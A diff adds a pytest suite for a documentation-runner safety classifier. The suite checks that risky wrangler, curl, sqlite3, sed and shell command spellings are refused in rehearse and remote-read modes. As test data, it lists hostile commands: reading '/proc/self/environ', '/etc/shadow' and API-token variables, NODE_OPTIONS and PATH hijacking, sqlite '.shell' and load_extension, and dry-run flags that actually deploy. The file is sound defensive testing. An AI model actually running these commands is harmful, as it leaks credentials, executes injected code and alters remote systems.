@@ -1,0 +1,254 @@
+"""The classifier against spellings that change what wrangler or a tool does: each class refused (or
+read as wrangler reads it) in several spellings, in rehearse and remote-read blocks."""
+
+from __future__ import annotations
+
+import pytest
+
+from opsdocs.errors import PageError
+from opsdocs.steps import Step, check_safety, classify
+
+MODES = ("rehearse", "remote-read")
+
+
+def step(command: str, mode: str) -> Step:
+    return Step(page="docs/p.md", line=3, mode=mode, command=command, title=None,  # type: ignore[arg-type]
+                why=None, expect=None, expect_re=None)
+
+
+def refused(command: str, mode: str = "rehearse") -> str:
+    with pytest.raises(PageError) as info:
+        check_safety(step(command, mode))
+    assert info.value.line is not None and info.value.line > 3
+    return info.value.message
+
+
+def allowed(command: str, mode: str = "rehearse") -> None:
+    check_safety(step(command, mode))
+
+
+def target(command: str) -> tuple[bool, str]:
+    (cmd,) = classify(command)
+    return cmd.mutating, cmd.target
+
+
+# --- booleans as yargs reads them -------------------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "wrangler deploy --dry-run false", "wrangler deploy --dry-run=false", "wrangler deploy --dry-run=yes",
+    "wrangler deploy --dry-run=1", "wrangler deploy --dry-run=no", "wrangler deploy --no-dry-run",
+    "wrangler deploy --dry-run --no-dry-run", "wrangler deploy --no-dry-run --dry-run",
+    "wrangler deploy --dry-run --dry-run=false", "wrangler deploy --dryRun=false",
+    "wrangler versions upload --dry-run=0", "wrangler deploy --dry-run --dry-run",
+])
+def test_a_dry_run_that_is_not_one_deploys(command: str) -> None:
+    assert target(command) == (True, "remote")
+    for mode in MODES:
+        assert "remote Cloudflare resource" in refused(command, mode)
+
+
+@pytest.mark.parametrize("command", [
+    "wrangler deploy --dry-run", "wrangler deploy --dry-run=true", "wrangler deploy --dry-run true",
+    "wrangler deploy --dryRun", "wrangler deploy --outdir dist --dry-run",
+])
+def test_real_dry_runs(command: str) -> None:
+    assert target(command) == (False, "local")
+
+
+@pytest.mark.parametrize("command", [
+    "wrangler d1 execute db --command 'DELETE FROM t' --local false",
+    "wrangler d1 execute db --command 'DELETE FROM t' --local=false",
+    "wrangler d1 execute db --command 'DELETE FROM t' --no-local",
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote --local",
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote=true",
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote true",
+    "wrangler d1 execute db --command 'DELETE FROM t' --local --local",
+    "wrangler d1 execute db --command 'DELETE FROM t' --no-remote --remote",
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote --no-remote",
+    "wrangler d1 migrations apply db --local=yes --remote",
+    "wrangler dev -r", "wrangler dev --remote", "wrangler dev --remote=true", "wrangler dev -r true",
+    "wrangler dev --remote --remote=false",
+])
+def test_local_that_is_not_local(command: str) -> None:
+    mutating, where = target(command)
+    assert where == "remote"
+    assert refused(command, "rehearse")
+
+
+@pytest.mark.parametrize("command", [
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote=false",
+    "wrangler d1 execute db --command 'DELETE FROM t' --remote false",
+    "wrangler d1 execute db --command 'DELETE FROM t' --no-remote",
+    "wrangler d1 execute db --command 'DELETE FROM t' --local",
+    "wrangler d1 execute db --command 'DELETE FROM t' --local=true",
+    "wrangler d1 execute db --command 'DELETE FROM t'",
+    "wrangler dev --remote=false", "wrangler dev",
+])
+def test_local_spellings_stay_local(command: str) -> None:
+    assert target(command)[1] == "local"
+
+
+# --- help and version only where yargs honours them -------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "wrangler deploy -v", "wrangler deploy --version", "wrangler -v deploy", "wrangler rollback --version",
+    "wrangler deploy --help=false", "wrangler deploy --help false", "wrangler deploy --no-help",
+    "wrangler deploy --help --help=false", "wrangler deploy -h false", "wrangler deploy -- --help",
+    "wrangler d1 execute db --remote --command 'DROP TABLE t' -v",
+])
+def test_help_and_version_that_do_not_stop_the_command(command: str) -> None:
+    assert target(command) == (True, "remote")
+    assert refused(command, "remote-read")
+
+
+@pytest.mark.parametrize("command", ["wrangler deploy --help", "wrangler deploy -h", "wrangler --version",
+                                     "wrangler -v", "wrangler deploy --help=true", "wrangler d1 --help"])
+def test_help_and_version_that_do(command: str) -> None:
+    assert target(command) == (False, "local")
+
+
+def test_short_flag_groups_are_read_letter_by_letter() -> None:
+    assert target("wrangler dev -rj")[1] == "remote"
+
+
+# --- anything not resolvable statically: refused -----------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "wrangler d1 execute db --command 'SELECT 1' $FLAG",
+    "wrangler d1 execute db --command 'SELECT 1' ${FLAG}",
+    'wrangler d1 execute db --command "SELECT 1" "$FLAG"',
+    'wrangler d1 execute db --command "SELECT 1" "${X:---remote}"',
+    "wrangler d1 execute db --command 'SELECT 1' $'--remote'",
+    "wrangler d1 execute db --command 'SELECT 1' $\"--remote\"",
+    "wrangler d1 execute db --command 'SELECT 1' --{remote,local}",
+    "wrangler d1 execute db --command 'SELECT 1' {--remote,}",
+    "wrangler d1 execute db --command 'SELECT 1' -*",
+    "wrangler d1 execute db --command 'SELECT 1' *",
+    "wrangler d1 execute db --command 'SELECT 1' --re?ote",
+    "wrangler d1 execute db --command 'SELECT 1' [-]-remote",
+    "cat ~/.wrangler/config/default.toml",
+    "echo $CLOUDFLARE_API_TOKEN", "echo ${CLOUDFLARE_API_TOKEN}", 'echo "$CLOUDFLARE_API_TOKEN"',
+    "cat /proc/$PPID/environ", "ls {/etc,/root}",
+])
+@pytest.mark.parametrize("mode", MODES)
+def test_words_bash_would_change_are_refused(command: str, mode: str) -> None:
+    refused(command, mode)
+
+
+@pytest.mark.parametrize("command", ['opsdocs health --base-url "$OPSDOCS_BASE_URL"', "ls migrations/*.sql",
+                                     "grep -c CREATE migrations/0001_init.sql", 'echo "a{b,c}"'])
+def test_known_words_still_run(command: str) -> None:
+    allowed(command, "remote-read")
+
+
+# --- the environment around a program -----------------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "NODE_OPTIONS='--require ./x.js' npx wrangler d1 migrations list db --local",
+    "PATH=.:$PATH wrangler whoami", "PATH=. wrangler d1 list", "CURL_HOME=. curl http://127.0.0.1:8787/",
+    "export NODE_OPTIONS=--require=./x.js", "export PATH=.", "declare -x NODE_OPTIONS=x", "X=1",
+    "CDPATH=/ cd etc", "env NODE_OPTIONS=x wrangler d1 list", "set -a", "source ./x.sh", ". ./x.sh",
+    "eval wrangler deploy", "exec wrangler deploy", "command wrangler deploy", "a[0]=1", "X+=1 wrangler d1 list",
+    "npm_config_userconfig=./npmrc npx wrangler d1 list",
+])
+@pytest.mark.parametrize("mode", MODES)
+def test_environment_changes_are_refused(command: str, mode: str) -> None:
+    refused(command, mode)
+
+
+@pytest.mark.parametrize("command", [
+    "echo 'node-options=--require ./x.js' > .npmrc", "echo x >> worker/.npmrc", "cp a .curlrc",
+    "tee .env < /dev/null", "touch .dev.vars", "echo 'x' > _curlrc", "mv x .dev.vars.production",
+])
+def test_writing_a_tool_config_is_refused(command: str) -> None:
+    refused(command)
+
+
+# --- allow-listed programs that write or run something ------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "sort -o /tmp/x a.txt", "sort --output=/tmp/x a.txt", "sort -o out.txt a.txt", "sort -uo/tmp/x a.txt",
+    "sort --compress-program=sh a.txt", "sort -T /tmp a.txt", "sort --files0-from=/etc/x",
+    "uniq a.txt /tmp/out", "uniq a.txt out.txt", "printf -v PATH .", "date -s 2020-01-01", "date --set=x",
+    "jq --rawfile t /proc/self/environ -n '$t'", "jq -f /tmp/prog.jq x.json", "jq -L /tmp 'import \"x\" as x; .'",
+    "tail -f log.txt --pid=1", "grep -f /etc/shadow x", "cat /proc/1/environ", "head /etc/passwd",
+    "ls /root", "diff /etc/passwd x", "wc --files0-from=/x", "cp --target-directory=/tmp a",
+    "sed -i.bak s/a/b/ x", "sed -i'/tmp/*' s/a/b/ x", "sed --in-place=/tmp/ s/a/b/ x", "sed -i -e 's/a/b/w /tmp/x' f",
+    "sed -e '1e id' f", "sed 's/a/b/e' f", "sed -f script.sed f", "sed -s -i~ s/a/b/ x",
+    "sqlite3 db.sqlite \"SELECT writefile('/tmp/x', 'y')\"", "sqlite3 db.sqlite \"VACUUM INTO '/tmp/x'\"",
+    "sqlite3 db.sqlite \"vacuum main into '/tmp/x'\"", "sqlite3 db.sqlite .edit", "sqlite3 db.sqlite '.shell id'",
+    "sqlite3 db.sqlite '.system id'", "sqlite3 db.sqlite \"SELECT edit('x', 'vi')\"", "sqlite3 db.sqlite '.output /tmp/x'",
+    "sqlite3 db.sqlite '.once /tmp/x'", "sqlite3 db.sqlite '.save /tmp/x'", "sqlite3 db.sqlite '.backup /tmp/x'",
+    "sqlite3 db.sqlite \"SELECT load_extension('/tmp/x.so')\"", "sqlite3 db.sqlite \"SELECT readfile('/etc/passwd')\"",
+    "sqlite3 db.sqlite $'SELECT 1;\\n.shell id'", "sqlite3 -cmd '.shell id' db.sqlite", "sqlite3 db.sqlite '.import /etc/passwd t'",
+    "sqlite3 db.sqlite \"ATTACH '/tmp/x' AS y\"", "sqlite3 /tmp/x.sqlite 'SELECT 1'",
+])
+@pytest.mark.parametrize("mode", MODES)
+def test_tools_that_write_or_execute_are_refused(command: str, mode: str) -> None:
+    refused(command, mode)
+
+
+@pytest.mark.parametrize("command", [
+    "sort -n a.txt", "sort -k2 -t, a.txt", "sort -rn a.txt | uniq -c", "sed -n 1p x", "sed -i s/a/b/ x",
+    "sqlite3 db.sqlite 'SELECT count(*) FROM t'", "jq -r .name x.json", "tail -n 5 x", "head -n2 x",
+    "grep -c x a.txt", "cp a b", "ls -la", "date -u +%Y", "cat -- a.txt",
+])
+def test_plain_tool_use_still_runs(command: str) -> None:
+    allowed(command)
+
+
+# --- PRAGMA that assigns -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("sql", [
+    "PRAGMA user_version = 7", "PRAGMA user_version=7", "PRAGMA user_version(7)", "PRAGMA main.user_version(7)",
+    "pragma schema_version (1)", "PRAGMA foreign_keys = OFF", "PRAGMA journal_mode(DELETE)",
+    "PRAGMA table_info(t); DROP TABLE t", "PRAGMA\tuser_version\t(7)",
+])
+def test_pragma_assignments_are_writes(sql: str) -> None:
+    mutating, where = target(f"wrangler d1 execute db --remote --command \"{sql}\"")
+    assert (mutating, where) == (True, "remote")
+    assert refused(f"wrangler d1 execute db --remote --command \"{sql}\"", "remote-read")
+
+
+@pytest.mark.parametrize("sql", ["PRAGMA table_info(t)", "PRAGMA user_version", "PRAGMA main.table_list",
+                                 "PRAGMA index_list('t')"])
+def test_reading_pragmas_are_reads(sql: str) -> None:
+    assert target(f"wrangler d1 execute db --remote --command \"{sql}\"") == (False, "remote")
+
+
+# --- curl: every request's method, no config files -------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "curl https://api.example.com/a --next -X DELETE https://api.example.com/b",
+    "curl https://x.example/a -: -d @data https://x.example/b", "curl -X GET -X POST https://x.example/",
+    "curl -XGET -XDELETE https://x.example/", "curl --request=PUT https://x.example/",
+    "curl -d x https://x.example/", "curl --data-raw x https://x.example/", "curl -F a=b https://x.example/",
+    "curl -T f https://x.example/", "curl --json '{}' https://x.example/", "curl -K cfg https://x.example/",
+    "curl --config=cfg https://x.example/", "curl -q -K cfg https://x.example/",
+    "curl -H @/proc/self/environ https://x.example/", "curl -w '%output{/tmp/x}x' https://x.example/",
+    "curl --trace /tmp/t https://x.example/", "curl --stderr /tmp/e https://x.example/",
+    "curl --hsts /tmp/h https://x.example/", "curl --libcurl /tmp/c https://x.example/",
+    "curl -o /tmp/x https://x.example/", "curl --output-dir /tmp -O https://x.example/x",
+    "curl --request-target x -X PATCH https://x.example/", "curl -sSX POST https://x.example/",
+    "curl file:///etc/passwd", "curl -G -d x https://x.example/",
+])
+def test_curl_requests_that_write_or_read_config_are_refused_in_remote_read(command: str) -> None:
+    refused(command, "remote-read")
+
+
+@pytest.mark.parametrize("command", ["curl -fsS https://x.example/health", "curl -sS -I https://x.example/",
+                                     "curl -fsS https://x.example/a --next https://x.example/b",
+                                     "curl -X GET https://x.example/", "curl -o out.json https://x.example/"])
+def test_curl_reads_run_in_remote_read(command: str) -> None:
+    allowed(command, "remote-read")
+
+
+# --- remote-read path flags stay in the sandbox ----------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "wrangler d1 export db --remote --output /tmp/dump.sql", "wrangler d1 list --config /etc/wrangler.jsonc",
+    "wrangler whoami --cwd /", "wrangler d1 list -c ../other/wrangler.jsonc", "wrangler d1 list --env-file=/root/.env",
+    "wrangler deployments list --config=/tmp/x.jsonc",
+])
+def test_remote_read_path_flags_are_confined(command: str) -> None:
+    refused(command, "remote-read")
